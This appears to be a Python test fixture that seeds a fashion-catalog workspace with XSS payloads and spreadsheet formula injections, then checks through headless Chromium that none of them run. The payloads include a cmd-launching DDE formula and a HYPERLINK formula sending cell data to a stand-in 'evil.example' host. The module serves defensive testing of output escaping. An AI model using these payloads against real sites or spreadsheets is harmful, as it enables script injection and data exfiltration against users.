"""A workspace of real fashion products as a hostile seller would supply them: script in titles,
descriptions, brands and category names, spreadsheet formulas in cells; and helpers to serve it
with a login and to drive it from Chromium.

Every payload sets ``window.__xss`` or opens a dialog if it ever runs, so a test only has to
look at that flag and at the dialogs the page opened.
"""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import pandas as pd

from _browser import CHROMIUM, CHROMIUM_ARGS, free_port, wait_port  # noqa: F401 - the tests import them from here too
from workbench import Workspace
from workbench.catalog.datasets import locate
from workbench.catalog.ingest import IngestOptions, ingest_file
from workbench.catalog.mapping import ColumnMapping
from workbench.catalog.reader import read_catalog

DAY = date(2026, 3, 3)
XSS = ['<img src=x onerror="window.__xss=1">', "<script>window.__xss=2</script>", "<svg onload=alert(3)>",
       "\"'><img src=x onerror=alert(4)>", "[click](javascript:window.__xss=5) ![p](javascript:alert(6))",
       '<iframe src="javascript:alert(7)"></iframe>', "<b onmouseover=alert(8)>hover</b>"]
# (a lone carriage return inside a quoted CSV field makes DuckDB's CSV sniffer fail, so catalog
# files carry the tab variant only; tests/test_safe_output.py covers "\r=1+1")
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1"]
#: real fashion categories renamed the way a hostile catalog names them
CATEGORY_RENAMES = {
    "articleType": {"Tshirts": 'Tshirts <img src=x onerror="window.__xss=11">',
                    "Casual Shoes": "Casual Shoes <svg onload=alert(12)>"},
    "subCategory": {"Topwear": "Topwear \"'><img src=x onerror=alert(13)>"},
    "masterCategory": {"Accessories": '=HYPERLINK("http://evil.example","Accessories")'},
}
MAPPING = "id=id,title=productDisplayName,description=desc,brand=brand,levels=masterCategory|subCategory|articleType"
TYPES = ["Tshirts", "Shirts", "Casual Shoes", "Watches", "Sports Shoes", "Kurtas", "Handbags", "Tops"]


@dataclass
class HostileWorkspace:
    """The workspace, its run, and the file of hostile new arrivals (with its true leaves)."""

    ws: Workspace
    run_id: str
    arrivals: Path
    hostile_leaves: list[str] = field(default_factory=list)


def hostile(frame: pd.DataFrame, seed: int = 0) -> pd.DataFrame:
    """Payloads in every third title, description and brand (script and formulas alternating)."""
    out = frame.copy()
    payloads = XSS + FORMULAS
    out["desc"] = [f"Soft cotton. {payloads[(i + seed) % len(payloads)]}" if i % 3 == 0 else "Soft cotton."
                   for i in range(len(out))]
    out["brand"] = [payloads[(i + seed + 2) % len(payloads)] if i % 3 == 1 else str(t).split(" ")[0]
                    for i, t in enumerate(out["productDisplayName"])]
    out["productDisplayName"] = [f"{payloads[(i + seed) % len(payloads)]} {t}" if i % 3 == 2 else t
                                 for i, t in enumerate(out["productDisplayName"])]
    return out


def fashion_rows(n_per_type: int, *, seed: int, exclude: set[str] = frozenset()) -> pd.DataFrame:
    """Real fashion rows of eight common article types (``n_per_type`` each)."""
    raw = read_catalog(locate("fashion/styles.csv")).frame
    raw = raw[raw["productDisplayName"].notna() & raw["articleType"].isin(TYPES)
              & ~raw["id"].astype(str).isin(exclude)]
    return raw.groupby("articleType").sample(n=n_per_type, random_state=seed).reset_index(drop=True)


def build(root: Path, n_per_type: int = 70, n_arrivals: int = 60) -> HostileWorkspace:
    """Ingest hostile real products, train and evaluate a tfidf run, store a projection, publish
    a threshold, classify hostile new arrivals and build their review queue."""
    from _dashboard_setup import add_projection
    from workbench.loop.review_queue import build_queue
    from workbench.loop.shelving import classify_file
    from workbench.loop.thresholds import publish_thresholds
    from workbench.runs.evaluation import evaluate_run
    from workbench.runs.training import train_models

    rows = fashion_rows(n_per_type, seed=0)
    for column, renames in CATEGORY_RENAMES.items():
        rows[column] = rows[column].replace(renames)
    catalog = root / "hostile_catalog.csv"
    hostile(rows).to_csv(catalog, index=False)
    ws = Workspace(root / "ws")
    ingest_file(ws, catalog, ColumnMapping.parse(MAPPING), options=IngestOptions(min_count=5, seed=0))
    run_id = train_models(ws, ["tfidf"], "random", seed=0)[0]
    evaluate_run(ws, run_id)
    add_projection(ws)
    publish_thresholds(ws, 0.6, by="lead")
    new = fashion_rows(n_arrivals // len(TYPES) + 1, seed=5, exclude=set(rows["id"].astype(str)))
    arrivals = root / "arrivals.csv"
    hostile(new.drop(columns=["masterCategory", "subCategory", "articleType"]), seed=1).to_csv(arrivals, index=False)
    classify_file(ws, arrivals, ColumnMapping.parse("id=id,title=productDisplayName,description=desc,brand=brand"),
                  run_id=run_id, batch_date=DAY)
    build_queue(ws, DAY, n_random=30, n_uncertain=15, n_disagree=0)
    from workbench.loop.reviews import set_blind_random_sample

    set_blind_random_sample(ws, False)  # the hostile suggestions are shown (blind review: test_reviewer_quality)
    leaves = [leaf for leaf in ws.df("SELECT node_id FROM categories WHERE is_leaf")["node_id"]
              if any(p in leaf for p in ("<", "="))]
    ws.rows("CHECKPOINT")
    return HostileWorkspace(ws, run_id, arrivals, leaves)


@contextmanager
def chromium():
    """Debian's headless Chromium driven by Playwright (never a downloaded browser)."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


class Watched:
    """A browser context whose pages record dialogs and page errors; ``xss()`` reads the flag."""

    def __init__(self, browser, **options):
        self.context = browser.new_context(viewport={"width": 1440, "height": 900}, accept_downloads=True,
                                           **options)
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000)
        self.dialogs: list[str] = []
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))

    def xss(self):
        """``window.__xss`` (``None`` while no payload ran)."""
        return self.page.evaluate("() => window.__xss === undefined ? null : window.__xss")

    def assert_inert(self, where: str) -> None:
        assert self.xss() is None, f"a payload ran on {where}: window.__xss = {self.xss()}"
        assert self.dialogs == [], f"a payload opened a dialog on {where}: {self.dialogs}"

    def login(self, url: str, user: str, password: str, next_path: str = "/"):
        """Log in through the form and land on ``next_path``."""
        self.page.goto(f"{url}{next_path}")
        self.page.fill("input[name=username]", user)
        self.page.fill("input[name=password]", password)
        self.page.click("button[type=submit]")
        self.page.wait_for_url(lambda u: "/login" not in u)
        return self.page

    def close(self):
        self.context.close()
